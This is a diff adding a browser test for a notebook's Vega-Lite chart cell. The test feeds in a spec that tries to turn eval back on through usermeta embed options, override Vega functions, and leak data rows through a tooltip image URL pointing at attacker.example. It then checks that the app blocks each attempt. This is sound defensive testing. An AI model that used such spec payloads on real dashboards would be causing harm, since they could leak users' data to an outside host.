@@ -94,4 +94,39 @@ test('a Vega spec whose expressions reach for window or Function does not run th
     // The last good chart stays.
     await expect(chart.locator('svg [aria-roledescription="bar"]')).toHaveCount(2);
   }
+
+  // Specs that draw fine but try to get around the settings: embed options in usermeta (eval back on, Vega's
+  // global functions replaced, the export menu), and a tooltip image whose URL carries the rows away.
+  const requests: string[] = [];
+  page.on('request', (r) => requests.push(r.url()));
+  const sneaky = {
+    data: { name: 'source' },
+    usermeta: {
+      embedOptions: { ast: false, actions: true, expressionFunctions: { format: { fn: 0 } } }
+    },
+    mark: {
+      type: 'bar',
+      tooltip: { expr: "{image: 'https://attacker.example/x.png?k=' + datum.k, title: datum.k}" }
+    },
+    encoding: { x: { field: 'k', type: 'nominal' }, y: { field: 'v', type: 'quantitative' } }
+  };
+  await chart.getByRole('textbox', { name: 'Vega-Lite spec' }).click();
+  await page.keyboard.press('Control+a');
+  await page.keyboard.insertText(JSON.stringify(sneaky, null, 2));
+  await expect(chart.getByTestId('spec-error')).toHaveCount(0);
+  await expect(chart.getByTestId('chart-error')).toHaveCount(0);
+  await expect(chart.locator('svg [aria-roledescription="bar"]')).toHaveCount(2);
+  await expect(chart.locator('.vega-actions')).toHaveCount(0);
+  await chart.locator('svg [aria-roledescription="bar"]').first().hover();
+  await expect(page.locator('#vg-tooltip-element')).toContainText('a');
+  await expect(page.locator('#vg-tooltip-element img')).toHaveCount(0);
+  await page.waitForTimeout(300);
+  expect(requests.filter((u) => u.includes('attacker.example'))).toEqual([]);
+  // Vega's format() still works for the next chart drawn in this tab.
+  await page.keyboard.press('Control+z');
+  await page.getByRole('button', { name: 'Add Chart cell below cell 2' }).click();
+  const second = page.getByTestId('cell').nth(2);
+  await second.getByLabel('Data', { exact: true }).selectOption('query_1');
+  await expect(second.locator('svg [aria-roledescription="bar"]')).toHaveCount(2, { timeout: 30_000 });
+  await expect(second.getByTestId('chart-error')).toHaveCount(0);
 });
